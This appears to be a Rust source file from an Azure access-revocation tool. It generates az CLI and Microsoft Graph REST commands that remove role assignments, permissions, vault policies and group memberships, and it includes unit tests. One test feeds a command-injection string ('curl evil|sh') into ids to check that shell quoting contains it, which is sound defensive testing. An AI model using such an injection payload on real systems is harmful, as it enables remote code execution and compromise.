//! How a grant is bound to a principal, and the command that takes it away.
//!
//! Sources: <https://learn.microsoft.com/cli/azure/role/assignment>, <https://learn.microsoft.com/cli/azure/ad/group/member>,
//! <https://learn.microsoft.com/cli/azure/keyvault>, `roleEligibilityScheduleRequests` and `roleAssignmentScheduleRequests`
//! of Resource Manager and of Microsoft Graph, `appRoleAssignments` and `oauth2PermissionGrants` of Microsoft Graph. What the
//! command line has no word for is asked with `az rest`.

use std::sync::Arc;

use evenhand_model::proposal::quoted;
use serde_json::{Value, json};

use crate::cloud::Cloud;
use crate::rbac::{ArmId, ObjectId, RoleKey};

/// What binds a grant to a principal.
#[derive(Clone, Debug)]
pub(crate) struct Bond {
    /// To whom, perhaps a group.
    pub(crate) principal: ObjectId,
    pub(crate) by: By,
}

/// By what.
#[derive(Clone, Debug)]
pub(crate) enum By {
    /// A role assignment, by its id.
    Assignment(Arc<str>),
    /// A role assignment that ends, or one that is held ready.
    Scheduled { ready: bool, role: RoleKey, scope: ArmId },
    /// A directory role.
    Directory { id: Option<Arc<str>>, term: Term, role: Arc<str>, scope: Arc<str> },
    /// An application permission.
    Permission { id: Option<Arc<str>>, resource: Arc<str>, role: Arc<str>, asked: Option<Arc<Asked>> },
    /// One of the delegated permissions of a grant.
    Delegated { id: Option<Arc<str>>, resource: Arc<str>, value: Arc<str>, all: Arc<str> },
    /// An access policy of a key vault.
    Vault { vault: ArmId, application: Option<Arc<str>> },
    /// The keys of a resource.
    Keys(Arc<str>),
    /// A role that everybody knows, or what is held through somebody else.
    Nothing,
}

/// How a directory role is held.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Term {
    Standing,
    Ends,
    Ready,
}

/// The manifest of an application that asks for permissions, so that whoever consents grants them anew.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Asked {
    /// The application.
    pub(crate) application: Arc<str>,
    /// The application that offers them.
    pub(crate) api: Arc<str>,
}

impl Bond {
    pub(crate) fn nothing() -> Self {
        Self { principal: ObjectId::new(""), by: By::Nothing }
    }

    /// The commands that undo it; none where several grants are one object, or nothing can be undone.
    pub(crate) fn undone(&self, cloud: Cloud) -> Vec<String> {
        let principal = self.principal.as_str();
        let graph = graph(cloud);
        match &self.by {
            By::Assignment(id) => vec![format!("az role assignment delete --ids {}", quoted(id))],
            By::Scheduled { ready, role, scope } => vec![scheduled(cloud, principal, *ready, role, scope)],
            By::Directory { id: Some(id), term: Term::Standing, .. } => {
                vec![delete(&format!("{graph}/roleManagement/directory/roleAssignments/{id}"))]
            }
            By::Directory { id: None, term: Term::Standing, role, scope } => {
                let list = format!(
                    "{graph}/roleManagement/directory/roleAssignments?$filter=principalId eq '{principal}' and \
                     roleDefinitionId eq '{role}'"
                );
                let query = format!("value[?directoryScopeId=='{scope}'].id | [0]");
                vec![delete_found(&format!("{graph}/roleManagement/directory/roleAssignments/"), &list, &query)]
            }
            By::Directory { term, role, scope, .. } => {
                let list = match term {
                    Term::Ready => "roleEligibilityScheduleRequests",
                    Term::Standing | Term::Ends => "roleAssignmentScheduleRequests",
                };
                let body = json!({
                    "action": "adminRemove", "principalId": principal, "roleDefinitionId": role, "directoryScopeId": scope,
                });
                vec![post(&format!("{graph}/roleManagement/directory/{list}"), &body)]
            }
            By::Permission { id, resource, role, asked } => {
                let list = format!("{graph}/servicePrincipals/{principal}/appRoleAssignments");
                let mut steps = vec![match id {
                    Some(id) => delete(&format!("{list}/{id}")),
                    None => {
                        let query = format!("value[?appRoleId=='{role}' && resourceId=='{resource}'].id | [0]");
                        delete_found(&format!("{list}/"), &list, &query)
                    }
                }];
                steps.extend(asked.iter().map(|asked| {
                    format!(
                        "az ad app permission delete --id {} --api {} --api-permissions {}",
                        quoted(&asked.application),
                        quoted(&asked.api),
                        quoted(role)
                    )
                }));
                steps
            }
            By::Vault { vault, application } => {
                let name = vault.as_str().rsplit('/').next().unwrap_or_default();
                let by = application.iter().map(|id| format!(" --application-id {}", quoted(id))).collect::<String>();
                vec![format!("az keyvault delete-policy --name {} --object-id {}{by}", quoted(name), quoted(principal))]
            }
            By::Keys(resource) => {
                vec![format!("az resource update --ids {} --set properties.disableLocalAuth=true", quoted(resource))]
            }
            By::Delegated { .. } | By::Nothing => Vec::new(),
        }
    }

    /// The command that gives a directory role to a principal itself, as it is given here to a group.
    pub(crate) fn again(&self, cloud: Cloud, to: &ObjectId) -> Option<String> {
        let By::Directory { role, scope, .. } = &self.by else { return None };
        let graph = graph(cloud);
        let body = json!({"principalId": to.as_str(), "roleDefinitionId": role, "directoryScopeId": scope});
        Some(post(&format!("{graph}/roleManagement/directory/roleAssignments"), &body))
    }
}

/// Microsoft Graph, in the version that the calls are of.
fn graph(cloud: Cloud) -> String {
    format!("{}/v1.0", cloud.graph())
}

/// Takes scopes out of a delegated grant; `left`: what stays of it.
pub(crate) fn without_scopes(
    cloud: Cloud,
    client: &ObjectId,
    id: Option<&str>,
    resource: &str,
    left: &[&str],
) -> String {
    let list = format!("{}/oauth2PermissionGrants", graph(cloud));
    let found = match id {
        Some(id) => quoted(&format!("{list}/{id}")),
        None => {
            let filter = format!("{list}?$filter=clientId eq '{}' and resourceId eq '{resource}'", client.as_str());
            format!("{}{}", quoted(&format!("{list}/")), id_of(&filter, "value[0].id"))
        }
    };
    match left.is_empty() {
        true => format!("az rest --method delete --url {found}"),
        false => {
            let body = json!({"scope": left.join(" ")});
            format!("az rest --method patch --url {found} --body {}", quoted(&body.to_string()))
        }
    }
}

/// Takes a principal out of a group.
pub(crate) fn left(group: &ObjectId, member: &ObjectId) -> String {
    format!("az ad group member remove --group {} --member-id {}", quoted(group.as_str()), quoted(member.as_str()))
}

/// Takes away that a principal may activate the membership of a group.
pub(crate) fn no_longer_ready(cloud: Cloud, group: &ObjectId, member: &ObjectId) -> String {
    let graph = graph(cloud);
    let body = json!({
        "accessId": "member", "action": "adminRemove", "groupId": group.as_str(), "principalId": member.as_str(),
    });
    post(&format!("{graph}/identityGovernance/privilegedAccess/group/eligibilityScheduleRequests"), &body)
}

/// Each request has an id of its own, which whoever makes it chooses.
fn scheduled(cloud: Cloud, principal: &str, ready: bool, role: &RoleKey, scope: &ArmId) -> String {
    let list = if ready { "roleEligibilityScheduleRequests" } else { "roleAssignmentScheduleRequests" };
    let place = if scope.is_root() { "" } else { scope.as_str() };
    let body = json!({"properties": {
        "principalId": principal,
        "requestType": "AdminRemove",
        "roleDefinitionId": format!("{place}/providers/Microsoft.Authorization/roleDefinitions/{role}"),
    }});
    format!(
        "az rest --method put --url {}\"$(uuidgen)\"{} --body {}",
        quoted(&format!("{}{place}/providers/Microsoft.Authorization/{list}/", cloud.manager())),
        quoted("?api-version=2020-10-01"),
        quoted(&body.to_string())
    )
}

fn post(url: &str, body: &Value) -> String {
    format!("az rest --method post --url {} --body {}", quoted(url), quoted(&body.to_string()))
}

fn delete(url: &str) -> String {
    format!("az rest --method delete --url {}", quoted(url))
}

/// Deletes what a list names, where the capture does not say the id.
fn delete_found(below: &str, list: &str, query: &str) -> String {
    format!("az rest --method delete --url {}{}", quoted(below), id_of(list, query))
}

fn id_of(list: &str, query: &str) -> String {
    format!("\"$(az rest --method get --url {} --query {} --output tsv)\"", quoted(list), quoted(query))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn undone(by: By) -> String {
        Bond { principal: ObjectId::new("p-1"), by }.undone(Cloud::Public).join("\n")
    }

    #[test]
    fn commands_go_to_the_cloud_of_the_tenant() {
        let id = ObjectId::new("p-1");
        let bond = |by| Bond { principal: id.clone(), by };
        let ready = By::Scheduled {
            ready: true,
            role: RoleKey::new("owner"),
            scope: ArmId::parse("/subscriptions/s").unwrap(),
        };
        let role =
            By::Directory { id: Some("a".into()), term: Term::Standing, role: "reader".into(), scope: "/".into() };
        for (cloud, graph, manager) in [
            (Cloud::UsGovernment, " https://graph.microsoft.us/v1.0/", " https://management.usgovcloudapi.net/"),
            (Cloud::China, " https://microsoftgraph.chinacloudapi.cn/v1.0/", " https://management.chinacloudapi.cn/"),
        ] {
            let steps = [
                bond(role.clone()).undone(cloud).join(""),
                bond(role.clone()).again(cloud, &id).unwrap(),
                without_scopes(cloud, &id, Some("g-1"), "r", &[]),
                no_longer_ready(cloud, &id, &id),
            ];
            assert!(steps.iter().all(|step| step.contains(graph)), "{steps:#?}");
            let step = bond(ready.clone()).undone(cloud).join("");
            assert!(step.contains(manager), "{step}");
        }
    }

    #[test]
    fn each_way_of_holding_something_is_undone_by_its_own_command() {
        let scope = || ArmId::parse("/subscriptions/s").unwrap();
        let asked = Arc::new(Asked { application: "app".into(), api: "graph".into() });
        let directory = |id: Option<&str>, term| By::Directory {
            id: id.map(Arc::from),
            term,
            role: "reader".into(),
            scope: "/".into(),
        };
        for (by, command) in [
            (
                By::Assignment("/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/1".into()),
                "az role assignment delete --ids \
                 /subscriptions/s/providers/Microsoft.Authorization/roleAssignments/1",
            ),
            (
                By::Scheduled { ready: true, role: RoleKey::new("owner"), scope: scope() },
                "az rest --method put --url https://management.azure.com/subscriptions/s/providers/\
                 Microsoft.Authorization/roleEligibilityScheduleRequests/\"$(uuidgen)\"'?api-version=2020-10-01' --body \
                 '{\"properties\":{\"principalId\":\"p-1\",\"requestType\":\"AdminRemove\",\"roleDefinitionId\":\
                 \"/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/owner\"}}'",
            ),
            (
                directory(Some("a-1"), Term::Standing),
                "az rest --method delete --url \
                 https://graph.microsoft.com/v1.0/roleManagement/directory/roleAssignments/a-1",
            ),
            (
                directory(Some("a-1"), Term::Ready),
                "az rest --method post --url \
                 https://graph.microsoft.com/v1.0/roleManagement/directory/roleEligibilityScheduleRequests --body \
                 '{\"action\":\"adminRemove\",\"principalId\":\"p-1\",\"roleDefinitionId\":\"reader\",\
                 \"directoryScopeId\":\"/\"}'",
            ),
            (
                By::Permission { id: Some("x-1".into()), resource: "g".into(), role: "r".into(), asked: Some(asked) },
                "az rest --method delete --url \
                 https://graph.microsoft.com/v1.0/servicePrincipals/p-1/appRoleAssignments/x-1\n\
                 az ad app permission delete --id app --api graph --api-permissions r",
            ),
            (
                By::Vault { vault: ArmId::parse("/subscriptions/s/v/kv").unwrap(), application: None },
                "az keyvault delete-policy --name kv --object-id p-1",
            ),
            (
                By::Keys("/subscriptions/s/a/ai".into()),
                "az resource update --ids /subscriptions/s/a/ai --set properties.disableLocalAuth=true",
            ),
            (By::Nothing, ""),
        ] {
            assert_eq!(undone(by), command);
        }
    }

    #[test]
    fn ids_that_a_capture_does_not_say_are_asked_for() {
        let step = undone(By::Permission { id: None, resource: "g".into(), role: "r".into(), asked: None });
        let list = "https://graph.microsoft.com/v1.0/servicePrincipals/p-1/appRoleAssignments";
        assert_eq!(
            step,
            format!(
                "az rest --method delete --url {list}/\"$(az rest --method get --url {list} --query \
                 'value[?appRoleId=='\\''r'\\'' && resourceId=='\\''g'\\''].id | [0]' --output tsv)\""
            )
        );
    }

    #[test]
    fn scopes_go_one_by_one_and_the_grant_with_the_last() {
        let client = ObjectId::new("c-1");
        let url = "https://graph.microsoft.com/v1.0/oauth2PermissionGrants/g-1";
        assert_eq!(
            without_scopes(Cloud::Public, &client, Some("g-1"), "r", &["User.Read", "openid"]),
            format!("az rest --method patch --url {url} --body '{{\"scope\":\"User.Read openid\"}}'")
        );
        let gone = without_scopes(Cloud::Public, &client, Some("g-1"), "r", &[]);
        assert_eq!(gone, format!("az rest --method delete --url {url}"));
    }

    #[test]
    fn no_id_ends_the_command_that_it_is_part_of() {
        let hostile = "1;curl evil|sh$(id)'";
        for by in [
            By::Assignment(hostile.into()),
            By::Permission { id: Some(hostile.into()), resource: "g".into(), role: "r".into(), asked: None },
            By::Keys(hostile.into()),
        ] {
            let step = undone(by);
            let quotes = step.split_once(" '").map(|(_, rest)| rest);
            assert!(quotes.is_some_and(|rest| rest.contains("1;curl evil|sh$(id)'\\''")), "{step}");
        }
        let member = ObjectId::new(hostile);
        assert!(left(&member, &member).contains(" '1;curl evil|sh$(id)'\\'''"), "{}", left(&member, &member));
    }
}
